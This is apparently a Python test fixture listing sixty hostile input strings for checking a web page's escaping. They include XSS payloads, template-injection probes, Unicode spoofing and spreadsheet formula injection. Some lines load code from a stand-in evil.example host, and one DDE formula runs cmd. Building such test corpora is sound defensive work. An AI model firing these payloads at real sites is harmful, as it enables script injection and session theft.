"""Sixty texts with which somebody would run something in a page, turn it around, or break it (W-01).

Each that could run calls `ran`, which a test counts. NUL is left out: no text of a database can hold it.
"""

from __future__ import annotations

SCRIPTS = (
    "<script>ran()</script>",
    "<SCRIPT>ran()</SCRIPT >",
    "<scr<script>ipt>ran()</scr</script>ipt>",
    "<script src=//evil.example/x.js></script>",
    "<script\x09type=module>ran()</script>",
    "</title><script>ran()</script>",
    "</textarea><script>ran()</script>",
    "</select><script>ran()</script>",
    "--><script>ran()</script><!--",
    "]]><script>ran()</script>",
    '<noscript><p title="</noscript><script>ran()</script>">',
    "<template><script>ran()</script></template>",
)
HANDLERS = (
    "<img src=x onerror=ran()>",
    "<img/src=x/onerror=ran()>",
    "<IMG SRC=x OnErRoR=ran()>",
    "<img src=x onerror=&#114;an()>",
    "<body onload=ran()>",
    "<input autofocus onfocus=ran()>",
    "<details open ontoggle=ran()>",
    "<video><source onerror=ran()></video>",
    "<audio src=x onerror=ran()>",
    "<marquee onstart=ran()>",
    "<b style=animation-name:x onanimationstart=ran()>x</b>",
    "<b hx-get=/ hx-trigger=load hx-on:click=ran()>x</b>",
    "<b hx-on::load=ran() data-hx-on:load=ran()>x</b>",
    "<div hx-ext=sse sse-connect=//evil.example/x>x</div>",
)
ATTRIBUTES = (
    '"><img src=x onerror=ran()>',
    "'><img src=x onerror=ran()>",
    '" onmouseover="ran()" autofocus onfocus="ran()" x="',
    "' onfocus=ran() autofocus '",
    "` onerror=ran() `",
    '" style="position:fixed;inset:0" class="',
    '" form="x" formaction="javascript:ran()',
)
ADDRESSES = (
    "javascript:ran()",
    "java\tscript:ran()",
    "&#106;avascript:ran()",
    "<a href=javascript:ran()>x</a>",
    "<iframe src=javascript:ran()></iframe>",
    "<iframe srcdoc='<script>parent.ran()</script>'></iframe>",
    "<form action=javascript:ran()><button>x</button></form>",
    "<object data=data:text/html,<script>ran()</script>></object>",
    "<meta http-equiv=refresh content='0;url=javascript:ran()'>",
    "<base href=//evil.example/>",
    "<link rel=stylesheet href=//evil.example/x.css>",
)
DRAWINGS = (
    "<svg onload=ran()>",
    "<svg><script>ran()</script></svg>",
    "<svg><animate onbegin=ran() attributeName=x dur=1s>",
    "<math><mtext><img src=x onerror=ran()></mtext></math>",
)
TEMPLATES = (
    "{{ 7 * 7 }}{% raw %}",
    "{{ ''.__class__.__mro__ }}",
    "${ran()}#{ran()}",
    "{{constructor.constructor('ran()')()}}",
)
UNREADABLE = (
    "\u202egnp.exe\u202c Schulz",
    "\u2066Meier\u2069\u200f",
    "Mei\u200b\u200d\ufeffer",
)
CALCULATED = ('=HYPERLINK("//evil.example","x")', "@SUM(1+1)*cmd|' /C calc'!A0")
ENTITIES = ("&lt;script&gt;ran()&lt;/script&gt;", "%3Cscript%3Eran()%3C/script%3E")
LONG = ("<img src=x onerror=ran()>" + "A" * 65_536,)

HOSTILE = (
    *SCRIPTS,
    *HANDLERS,
    *ATTRIBUTES,
    *ADDRESSES,
    *DRAWINGS,
    *TEMPLATES,
    *UNREADABLE,
    *CALCULATED,
    *ENTITIES,
    *LONG,
)
